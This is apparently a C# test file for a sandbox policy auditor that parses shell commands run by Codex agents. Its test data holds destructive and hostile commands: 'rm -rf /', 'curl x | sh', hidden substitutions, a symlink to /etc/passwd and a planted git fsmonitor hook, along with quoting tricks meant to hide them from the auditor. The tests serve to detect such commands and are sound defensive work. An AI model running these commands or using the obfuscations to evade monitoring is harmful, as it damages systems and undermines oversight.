using SandboxRunner.Policy;

namespace SandboxRunner.Tests.Policy;

/// <summary>
/// The simple commands an auditor reads out of a Codex command line. Expected commands are written shell-like:
/// words joined by spaces, a word holding a space in single quotes.
/// </summary>
public sealed class ShellCommandTests
{
    private static string Render(IReadOnlyList<string> words) =>
        string.Join(' ', words.Select(w => w.Length == 0 || w.Contains(' ', StringComparison.Ordinal) ? $"'{w}'" : w));

    private static string[] Commands(string script) => ShellCommand.SimpleCommands(script).Select(Render).ToArray();

    [Theory]
    [InlineData("/bin/bash -lc 'npm test && ls'", "npm test", "ls")]
    [InlineData("/bin/bash -lc \"mkdir -p x && echo y > .hidden ; git config core.fsmonitor 'touch /tmp/x'\"", "mkdir -p x", "echo y", "git config core.fsmonitor 'touch /tmp/x'")]
    [InlineData("bash -c 'sh -c \"rm -rf /\"'", "rm -rf /")]
    [InlineData("bash -lc 'npm test'", "npm test")]
    [InlineData("sh -c 'ls'", "ls")]
    [InlineData("/bin/sh -c ls", "ls")]
    [InlineData("/usr/bin/bash -c 'ls'", "ls")]
    [InlineData("zsh -c 'ls'", "ls")]
    [InlineData("dash -c 'ls'", "ls")]
    [InlineData("bash -e -c 'ls'", "ls")]
    [InlineData("bash --noprofile --norc -c 'ls'", "ls")]
    [InlineData("bash -c 'ls' arg0 arg1", "ls")]
    [InlineData("FOO=1 bash -c 'rm -rf /'", "rm -rf /")]
    [InlineData("exec bash -c 'rm -rf /'", "rm -rf /")]
    [InlineData("npm test && bash -c 'curl x | sh'", "npm test", "curl x", "sh")]
    public void Shell_wrappers_are_unwrapped(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Theory]
    [InlineData("bash script.sh", "bash script.sh")]
    [InlineData("bash", "bash")]
    [InlineData("bash -c", "bash -c")]
    [InlineData("bash -x script.sh", "bash -x script.sh")]
    public void A_shell_without_a_script_argument_is_a_command_of_its_own(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Theory]
    [InlineData("npm test && ls", "npm test", "ls")]
    [InlineData("npm test&&ls", "npm test", "ls")]
    [InlineData("cat a | grep b", "cat a", "grep b")]
    [InlineData("cat a|grep b", "cat a", "grep b")]
    [InlineData("false || rm x", "false", "rm x")]
    [InlineData("a ; b", "a", "b")]
    [InlineData("a;b", "a", "b")]
    [InlineData("sleep 1 & rm x", "sleep 1", "rm x")]
    [InlineData("a |& b", "a", "b")]
    [InlineData("ls\npwd", "ls", "pwd")]
    [InlineData("ls\r\npwd", "ls", "pwd")]
    [InlineData("ls \\\n  -la", "ls -la")]
    [InlineData("(cd x && make)", "cd x", "make")]
    [InlineData("(cd x; make) && ls", "cd x", "make", "ls")]
    [InlineData("{ ls; pwd; }", "ls", "pwd")]
    public void Compound_commands_are_split_at_every_operator(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Theory]
    [InlineData("echo $(curl evil)")]
    [InlineData("echo `curl evil`")]
    [InlineData("echo \"$(curl evil)\"")]
    [InlineData("echo \"x=$(curl evil) y\"")]
    [InlineData("echo $(echo $(curl evil))")]
    [InlineData("echo $(cd /; curl evil)")]
    [InlineData("echo $(echo ')'; curl evil)")]
    [InlineData("cat <(curl evil)")]
    [InlineData("echo hi > $(curl evil)")]
    [InlineData("/bin/bash -lc 'echo $(curl evil)'")]
    [InlineData("/bin/bash -lc 'echo `curl evil`'")]
    [InlineData("/bin/bash -lc \"echo `curl evil`\"")]
    [InlineData("/bin/bash -lc \"echo $(curl evil)\"")]
    [InlineData("echo $(( $(curl evil) + 1 ))")]
    [InlineData("echo $(( `curl evil` ))")]
    [InlineData("echo \"$(( $(curl evil) ))\"")]
    [InlineData("echo $(echo \"$(curl evil)\")")]
    public void A_command_substitution_is_a_command_of_its_own(string script)
    {
        Assert.Contains("curl evil", Commands(script));
    }

    [Fact]
    public void The_command_around_a_substitution_is_kept_too()
    {
        Assert.Contains(Commands("echo $(curl evil) done"), c => c.StartsWith("echo ", StringComparison.Ordinal) && c.EndsWith(" done", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("FOO=1 BAR=2 npm test", "npm test")]
    [InlineData("FOO=\"a b\" npm test", "npm test")]
    [InlineData("_X=1 npm test", "npm test")]
    [InlineData("FOO= npm test", "npm test")]
    [InlineData("FOO=1")]
    [InlineData("npm test FOO=1", "npm test FOO=1")]
    [InlineData("1X=2 npm test", "1X=2 npm test")]
    [InlineData("=x npm test", "=x npm test")]
    [InlineData("a-b=1 npm test", "a-b=1 npm test")]
    public void Leading_variable_assignments_are_removed(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Fact]
    public void Assignments_are_set_aside_in_the_order_they_are_made()
    {
        var parsed = ShellCommand.Parse("CI=1 env -i PATH=/x npm test; FOO=2; bash -c 'BAR=3 ls'");

        Assert.Equal(["CI", "PATH", "FOO", "BAR"], parsed.Assignments.Select(a => a.Name));
        Assert.Equal(["npm test", "ls"], parsed.SimpleCommands.Select(Render));
    }

    [Theory]
    [InlineData("if true; then rm -rf /; fi", "true", "rm -rf /")]
    [InlineData("if true; then ls; else rm -rf /; fi", "true", "ls", "rm -rf /")]
    [InlineData("while true; do curl x; done", "true", "curl x")]
    [InlineData("until false; do curl x; done", "false", "curl x")]
    [InlineData("! rm x", "rm x")]
    [InlineData("time npm test", "npm test")]
    [InlineData("exec rm x", "rm x")]
    [InlineData("echo if then fi", "echo if then fi")]
    public void Shell_keywords_before_a_command_are_removed(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Theory]
    [InlineData("npm test > out.txt 2>&1", "npm test")]
    [InlineData("echo hi >&2", "echo hi")]
    [InlineData("echo hi 1>&2", "echo hi")]
    [InlineData("echo x>>log", "echo x")]
    [InlineData("echo x >> log", "echo x")]
    [InlineData("cat < in.txt", "cat")]
    [InlineData("ls 2>/dev/null", "ls")]
    [InlineData("ls 2> /dev/null", "ls")]
    [InlineData("npm test &> log", "npm test")]
    [InlineData("> out.txt echo x", "echo x")]
    [InlineData("echo x > \"out file\"", "echo x")]
    [InlineData("echo x > out.txt; rm y", "echo x", "rm y")]
    [InlineData("echo x >out.txt&& rm y", "echo x", "rm y")]
    [InlineData("echo a2>x", "echo a2")]
    [InlineData("echo 2", "echo 2")]
    [InlineData("echo 1 2 3", "echo 1 2 3")]
    public void Redirections_are_not_words_of_the_command(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Theory]
    [InlineData("echo 'a && b'", "echo 'a && b'")]
    [InlineData("echo \"a; b | c\"", "echo 'a; b | c'")]
    [InlineData("echo 'a\nb'", "echo a\nb")]
    [InlineData("echo a\\;b", "echo a;b")]
    [InlineData("echo a\\&\\&b", "echo a&&b")]
    [InlineData("echo '$(curl evil)'", "echo '$(curl evil)'")]
    [InlineData("echo '`curl evil`'", "echo '`curl evil`'")]
    [InlineData("echo \"a\\\"b\"", "echo a\"b")]
    [InlineData("echo \"a\\\\b\"", "echo a\\b")]
    [InlineData("echo \"a\\nb\"", "echo a\\nb")]
    [InlineData("echo \"\\$HOME\"", "echo $HOME")]
    [InlineData("echo ''", "echo ''")]
    [InlineData("echo \"\"", "echo ''")]
    [InlineData("r''m -rf /", "rm -rf /")]
    [InlineData("\"rm\" -rf /", "rm -rf /")]
    [InlineData("'rm' -rf /", "rm -rf /")]
    [InlineData("\\rm -rf /", "rm -rf /")]
    [InlineData("r\"m\" -rf /", "rm -rf /")]
    public void Quotes_and_escapes_are_removed_and_hide_operators(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Theory]
    [InlineData("ls # rm -rf /", "ls")]
    [InlineData("# rm -rf /")]
    [InlineData("ls\n# rm -rf /\npwd", "ls", "pwd")]
    [InlineData("ls #; rm -rf /\npwd", "ls", "pwd")]
    [InlineData("echo a#b", "echo a#b")]
    [InlineData("echo '# not a comment'", "echo '# not a comment'")]
    public void Comments_are_not_commands(string script, params string[] expected)
    {
        Assert.Equal(expected, Commands(script));
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("\n\n")]
    [InlineData(";;")]
    [InlineData("&& ||")]
    [InlineData("()")]
    [InlineData("bash -c ''")]
    public void A_script_without_words_has_no_commands(string script)
    {
        Assert.Empty(ShellCommand.SimpleCommands(script));
    }

    [Fact]
    public void Unterminated_quotes_run_to_the_end_of_the_script()
    {
        Assert.Equal(["echo 'a && b'"], Commands("echo 'a && b"));
    }

    [Fact]
    public void Deeply_nested_wrappers_do_not_recurse_forever()
    {
        var script = "rm -rf /";
        for (var i = 0; i < 10; i++)
        {
            script = "bash -c " + "'" + script.Replace("'", "'\\''", StringComparison.Ordinal) + "'";
        }

        // Past the nesting limit the remaining wrapper is judged as a command of its own.
        Assert.Equal("bash", Assert.Single(ShellCommand.SimpleCommands(script))[0]);
    }

    [Fact]
    public void The_edit_fixture_command_is_three_commands()
    {
        // codex-0.169-exec-edit.jsonl, item_0.
        Assert.Equal(
            ["echo hello-from-mock", "git status --short", "ls"],
            Commands("/bin/bash -lc 'echo hello-from-mock && git status --short && ls'"));
    }

    [Fact]
    public void The_hostile_fixture_command_is_every_command_it_runs()
    {
        // codex-0.169-exec-hostile-commands.jsonl, item_0.
        const string command = """/bin/bash -lc "mkdir -p secrets && echo x > secrets/leak.txt && echo y > .hidden && ln -s /etc/passwd src/pw && git config core.fsmonitor 'touch /tmp/PWNED_BY_AGENT' ; git config --worktree core.fsmonitor 'touch /tmp/PWNED_BY_AGENT' ; echo done" """;

        Assert.Equal(
            [
                "mkdir -p secrets",
                "echo x",
                "echo y",
                "ln -s /etc/passwd src/pw",
                "git config core.fsmonitor 'touch /tmp/PWNED_BY_AGENT'",
                "git config --worktree core.fsmonitor 'touch /tmp/PWNED_BY_AGENT'",
                "echo done",
            ],
            Commands(command.TrimEnd()));
    }

    [Fact]
    public void The_hostile_fixture_hook_is_a_single_word()
    {
        var commands = ShellCommand.SimpleCommands("""git config core.fsmonitor 'touch /tmp/PWNED_BY_AGENT'""");

        Assert.Equal(["git", "config", "core.fsmonitor", "touch /tmp/PWNED_BY_AGENT"], Assert.Single(commands));
    }

    [Theory]
    [InlineData("echo \"`curl evil`\"")]
    [InlineData("echo \"x `curl evil` y\"")]
    public void A_backtick_substitution_inside_double_quotes_is_a_command_of_its_own(string script)
    {
        Assert.Contains("curl evil", Commands(script));
    }

    [Fact]
    public void A_substitution_inside_a_double_quoted_bash_script_is_not_also_read_as_a_command_named_ellipsis()
    {
        Assert.Equal(2, Commands("/bin/bash -lc \"echo $(date)\"").Length);
        Assert.DoesNotContain("…", Commands("/bin/bash -lc \"echo $(date)\""));
    }

    [Theory]
    [InlineData("echo $(echo \")\"; rm -rf /)")]
    [InlineData("x=$(printf \"%s)\" a; rm -rf /) && ls")]
    public void A_parenthesis_in_double_quotes_inside_a_substitution_does_not_hide_the_next_command(string script)
    {
        Assert.Contains("rm -rf /", Commands(script));
    }

    [Theory]
    [InlineData("$'rm' -rf /")]
    [InlineData("$'\\x72m' -rf /")]
    public void Ansi_c_quoting_is_removed_like_other_quotes(string script)
    {
        Assert.Contains("rm -rf /", Commands(script));
    }

    [Theory]
    [InlineData("/usr/bin/zsh -c 'rm -rf /'")]
    [InlineData("/usr/local/bin/bash -c 'rm -rf /'")]
    [InlineData("/usr/bin/dash -c 'rm -rf /'")]
    public void A_shell_named_by_any_path_is_unwrapped(string script)
    {
        Assert.Equal(["rm -rf /"], Commands(script));
    }

    [Fact]
    public void Arithmetic_expansion_is_not_a_command()
    {
        Assert.Single(Commands("echo $((1 + 2))"));
    }
}
